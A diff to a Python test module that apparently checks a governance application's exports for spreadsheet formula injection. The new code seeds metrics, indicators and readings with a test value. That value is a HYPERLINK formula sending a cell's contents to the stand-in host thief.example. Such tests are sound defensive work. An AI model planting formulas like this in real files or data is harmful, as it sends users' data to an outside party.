@@ -14,8 +14,10 @@ from aims.tenancy.actions import issue_token
 from aims.tenancy.models import Member, Organisation
 from aims.tenancy.permissions import Role
 from aims.tenancy.scope import organisation_scope, working_in
+from cases.models import ClaimMetric, Element
 from tests.audits import making
 from tests.audits.material import ask
+from tests.cases.measuring import make_indicator, make_metric, reading, send
 from tests.factories import make_control, make_evidence, make_risk, make_system
 
 FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"@open")'
@@ -69,6 +71,18 @@ def complete(troupe: Troupe) -> None:
     make_evidence(troupe.officer, title=formula)
     with working_in(troupe.organisation):
         issue_token(troupe.officer, name=formula, scopes=["read"], days=1, actor=None)
+        measure(troupe, formula)
+
+
+def measure(troupe: Troupe, formula: str) -> None:
+    """A metric of a claim, numbered 1 where the demo has none, with a reading whose every text is a formula."""
+    goal = Element.objects.filter(kind="goal", case__number=1).order_by("key")[0]
+    indicator = make_indicator(troupe, formula)
+    key = f"walk-{troupe.slug}"
+    make_metric(troupe, goal.case, goal.key, indicator=indicator, key=key, dimensions=[], environment_required="")
+    send(troupe, reading(0.93, metric=key, group=None, source=formula[:100], run_id=formula, key=formula))
+    if ClaimMetric.objects.filter(number=1).exclude(key=key).exists():
+        send(troupe, reading(0.93, metric=ClaimMetric.objects.get(number=1).key, source=formula[:100]))
 
 
 @pytest.fixture(scope="package")
